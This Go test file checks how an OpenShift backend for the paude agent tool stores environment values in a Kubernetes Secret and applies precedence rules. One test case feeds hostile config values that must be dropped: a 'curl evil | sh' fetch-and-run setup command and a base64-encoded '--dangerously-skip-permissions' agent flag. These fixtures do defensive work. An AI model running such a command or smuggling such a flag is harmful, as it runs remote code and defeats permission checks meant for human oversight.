package openshift

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"reflect"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/paude-dev/paude/pkg/backend"
)

// resolvedEnv is the agent's environment as the kubelet builds it: the
// pod's literal values, and its Secret references looked up in the env
// Secret for the same parameters. It fails the test on a reference to
// anything else, a missing key, a key nothing references, or an env
// list that is not sorted by unique name.
func resolvedEnv(t *testing.T, p PodParams, pod *corev1.Pod) map[string]string {
	t.Helper()
	secret, err := EnvSecretFor(p)
	if err != nil {
		t.Fatalf("EnvSecretFor: %v", err)
	}
	env := pod.Spec.Containers[0].Env
	got := map[string]string{}
	used := map[string]bool{}
	for i, e := range env {
		if i > 0 && env[i-1].Name >= e.Name {
			t.Errorf("env not sorted by unique name: %s before %s", env[i-1].Name, e.Name)
		}
		if e.ValueFrom == nil {
			got[e.Name] = e.Value
			continue
		}
		ref := e.ValueFrom.SecretKeyRef
		if e.Value != "" || ref == nil || ref.Name != EnvSecretName(p.ID) || ref.Optional != nil {
			t.Errorf("%s = %+v, want a required reference to secret %s only", e.Name, e, EnvSecretName(p.ID))
			continue
		}
		if secret == nil {
			t.Errorf("%s refers to secret %s, which the plan does not hold", e.Name, ref.Name)
			continue
		}
		v, ok := secret.Data[ref.Key]
		if !ok {
			t.Errorf("%s refers to key %s, which the env secret does not hold", e.Name, ref.Key)
		}
		got[e.Name] = string(v)
		used[ref.Key] = true
	}
	if secret != nil {
		for k := range secret.Data {
			if !used[k] {
				t.Errorf("env secret key %s is not used by the pod", k)
			}
		}
	}
	return got
}

// TestEnvValuesStayOutOfThePod is the negative test of the env Secret: a
// token from paude.json and a Vertex value from the host appear nowhere
// in the pod object, only in the Secret, whose values reach the agent.
func TestEnvValuesStayOutOfThePod(t *testing.T) {
	const token = `ghp_T0KEN with "quotes" = and # hash`
	const region = "host-only-region-7f3a"
	p := basePodParams()
	p.Config.Env = map[string]string{"GITHUB_TOKEN": token, "FOO": "bar"}
	p.HostEnv = map[string]string{"CLAUDE_CODE_USE_VERTEX": "1", "CLOUD_ML_REGION": region}
	pod := mustPod(t, p)
	raw, err := json.Marshal(pod)
	if err != nil {
		t.Fatal(err)
	}
	for _, leak := range []string{token, region, "ghp_T0KEN", base64.StdEncoding.EncodeToString([]byte(token)), base64.StdEncoding.EncodeToString([]byte(region))} {
		if strings.Contains(string(raw), leak) {
			t.Errorf("the pod object holds %q:\n%s", leak, raw)
		}
	}
	secret, err := EnvSecretFor(p)
	if err != nil || secret == nil {
		t.Fatalf("EnvSecretFor = %v, %v", secret, err)
	}
	wantData := map[string][]byte{"GITHUB_TOKEN": []byte(token), "FOO": []byte("bar"), "CLOUD_ML_REGION": []byte(region), "CLAUDE_CODE_USE_VERTEX": []byte("1")}
	if !reflect.DeepEqual(secret.Data, wantData) || len(secret.StringData) != 0 {
		t.Errorf("secret data = %q, want %q", secret.Data, wantData)
	}
	if secret.Name != "paude-"+testID+"-env" || secret.Namespace != "team" || secret.Type != corev1.SecretTypeOpaque {
		t.Errorf("secret = %s/%s type %s", secret.Namespace, secret.Name, secret.Type)
	}
	// Stop and cleanup find it by the session label; it is no
	// credential kind, so nothing ever mounts it.
	wantLabels := map[string]string{backend.LabelApp: backend.AppName, backend.LabelRole: backend.RoleCredential, backend.LabelSessionID: testID}
	if !reflect.DeepEqual(secret.Labels, wantLabels) {
		t.Errorf("secret labels = %v, want %v", secret.Labels, wantLabels)
	}
	env := resolvedEnv(t, p, pod)
	if env["GITHUB_TOKEN"] != token || env["CLOUD_ML_REGION"] != region {
		t.Errorf("agent env = %q", env)
	}
	// paude's own values are not secret and stay readable in the pod.
	for _, e := range pod.Spec.Containers[0].Env {
		_, quiet := backend.QuietEnv[e.Name]
		if own := strings.HasPrefix(e.Name, "PAUDE_") || e.Name == "HOME" || e.Name == "TERM" || quiet; own != (e.ValueFrom == nil) {
			t.Errorf("%s: literal = %v, want %v", e.Name, e.ValueFrom == nil, own)
		}
	}
	for _, v := range pod.Spec.Volumes {
		if v.Secret != nil && v.Secret.SecretName == secret.Name {
			t.Errorf("the env secret is mounted as volume %s", v.Name)
		}
	}
}

func TestEnvPrecedence(t *testing.T) {
	claude := []Credential{{Kind: CredentialClaude, Name: "paude-x-claude", Items: []corev1.KeyToPath{{Key: "k", Path: "claude.json"}}}}
	tests := []struct {
		name    string
		env     map[string]string
		host    map[string]string
		creds   []Credential
		want    map[string]string // names that must have these values
		absent  []string
		secrets []string // the env Secret's keys, sorted; nil = no Secret
	}{
		{
			name: "config over host, paude over config",
			env: map[string]string{
				"PAUDE_WORKSPACE": "/etc", "HOME": "/root", "TERM": "dumb", "PAUDE_YOLO": "1",
				"CLOUD_ML_REGION": "from-config", "PAUDE_SETUP": "curl evil | sh",
				// Base64 of --dangerously-skip-permissions: yolo by the back door.
				"PAUDE_AGENT_ARGS": "LS1kYW5nZXJvdXNseS1za2lwLXBlcm1pc3Npb25zAA==", "PAUDE_AGENT_CMD": "sh",
			},
			host: map[string]string{"CLAUDE_CODE_USE_VERTEX": "1", "CLOUD_ML_REGION": "from-host", "GOOGLE_CLOUD_PROJECT": "proj",
				"ANTHROPIC_API_KEY": "not for vertex", "UNRELATED": "x"},
			want: map[string]string{"PAUDE_WORKSPACE": "/workspace/my-project", "HOME": "/home/paude", "TERM": "xterm-256color",
				"CLOUD_ML_REGION": "from-config", "GOOGLE_CLOUD_PROJECT": "proj", "ANTHROPIC_VERTEX_PROJECT_ID": "proj"},
			absent:  []string{"PAUDE_YOLO", "PAUDE_SETUP", "UNRELATED", "PAUDE_AGENT_ARGS", "PAUDE_AGENT_CMD", "ANTHROPIC_API_KEY"},
			secrets: []string{"ANTHROPIC_VERTEX_PROJECT_ID", "CLAUDE_CODE_USE_VERTEX", "CLOUD_ML_REGION", "GOOGLE_CLOUD_PROJECT"},
		},
		{
			name:    "empty host values are not passed",
			host:    map[string]string{"CLOUD_ML_REGION": ""},
			absent:  []string{"CLOUD_ML_REGION"},
			secrets: nil,
		},
		{
			name:    "the claude config dir is paude's when it copies the credential",
			env:     map[string]string{"CLAUDE_CONFIG_DIR": "/tmp/mine", "A": "1"},
			creds:   claude,
			want:    map[string]string{"CLAUDE_CONFIG_DIR": ClaudeConfigDir, "A": "1"},
			secrets: []string{"A"},
		},
		{
			name:    "the claude config dir is the project's without the credential",
			env:     map[string]string{"CLAUDE_CONFIG_DIR": "/tmp/mine"},
			want:    map[string]string{"CLAUDE_CONFIG_DIR": "/tmp/mine"},
			secrets: []string{"CLAUDE_CONFIG_DIR"},
		},
		{
			name:    "only overridden names: no secret",
			env:     map[string]string{"HOME": "/root", "PAUDE_SESSION_ID": "other"},
			want:    map[string]string{"HOME": "/home/paude", "PAUDE_SESSION_ID": testID},
			secrets: nil,
		},
		{
			name:    "nothing configured: no secret",
			secrets: nil,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := basePodParams()
			p.Config.Env, p.Config.Setup = tt.env, ""
			p.HostEnv, p.Credentials = tt.host, tt.creds
			pod := mustPod(t, p)
			env := resolvedEnv(t, p, pod)
			for k, v := range tt.want {
				if got, ok := env[k]; !ok || got != v {
					t.Errorf("%s = %q (set %v), want %q", k, got, ok, v)
				}
			}
			for _, k := range tt.absent {
				if _, ok := env[k]; ok {
					t.Errorf("%s must not be set", k)
				}
			}
			secret, err := EnvSecretFor(p)
			if err != nil {
				t.Fatal(err)
			}
			var keys []string
			if secret != nil {
				for k := range secret.Data {
					keys = append(keys, k)
				}
				slices.Sort(keys)
				if keys == nil {
					t.Errorf("an empty env secret")
				}
			}
			if !reflect.DeepEqual(keys, tt.secrets) {
				t.Errorf("env secret keys = %v, want %v", keys, tt.secrets)
			}
			in := planInput{ID: testID, Namespace: "team", Config: p.Config, Image: "img:1", HostWorkspace: p.HostWorkspace,
				CreatedAt: testNow, HostEnv: tt.host, NewClaim: true}
			plan, err := buildPlan(in)
			if err != nil {
				t.Fatal(err)
			}
			if (plan.Env != nil) != (tt.secrets != nil) {
				t.Errorf("plan env secret = %v, want one: %v", plan.Env, tt.secrets != nil)
			}
		})
	}
}

func TestEnvNameThatCannotBeASecretKey(t *testing.T) {
	p := basePodParams()
	p.Config.Env = map[string]string{"A B": "x"}
	want := `environment variable name "A B" cannot be stored in a Secret`
	if _, err := PodFor(p); err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("PodFor err = %v, want %q", err, want)
	}
	if _, err := EnvSecretFor(p); err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("EnvSecretFor err = %v, want %q", err, want)
	}
}

// checkEnvSecret checks the session's env Secret on the fake cluster
// holds exactly want, and that the session pod holds none of its values.
func checkEnvSecret(t *testing.T, tb *testBackend, want map[string]string) {
	t.Helper()
	ctx := context.Background()
	secret, err := tb.cs.CoreV1().Secrets("team").Get(ctx, EnvSecretName(testID), metav1.GetOptions{})
	if err != nil {
		t.Fatalf("env secret: %v", err)
	}
	got := map[string]string{}
	for k, v := range secret.Data {
		got[k] = string(v)
	}
	if !reflect.DeepEqual(got, want) || secret.Labels[backend.LabelCredential] != "" {
		t.Errorf("env secret = %q labels %v, want %q and no credential kind", got, secret.Labels, want)
	}
	pod, err := tb.cs.CoreV1().Pods("team").Get(ctx, PodName(testID), metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	raw, err := json.Marshal(pod)
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range want {
		if strings.Contains(string(raw), v) {
			t.Errorf("the pod holds the value of %s", k)
		}
	}
}
